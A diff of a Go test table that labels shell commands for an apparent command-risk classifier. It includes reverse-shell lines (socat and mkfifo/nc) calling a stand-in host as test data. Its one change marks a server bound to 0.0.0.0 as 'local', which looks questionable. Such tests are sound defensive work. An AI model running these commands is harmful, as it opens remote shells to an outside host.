@@ -110,7 +110,7 @@ func TestFetchAndListen(t *testing.T) {
 		{"socat TCP:evil.example.net:4444 EXEC:/bin/sh", "listen/reverse-shell"},
 		{"mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc evil.example.net 4444 > /tmp/f", "listen/reverse-shell"},
 		{"python3 -m http.server 8000", "listen/serve local"},
-		{"python3 -m http.server --bind 0.0.0.0", "listen/serve !local"},
+		{"python3 -m http.server --bind 0.0.0.0", "listen/serve local"},
 		{"ngrok http 3000", "listen/tunnel"},
 		{"ssh -R 8080:localhost:80 x.example.com", "listen/tunnel !local"},
 		{"ssh -NL 5432:db:5432 x.example.com", "listen/tunnel local"},
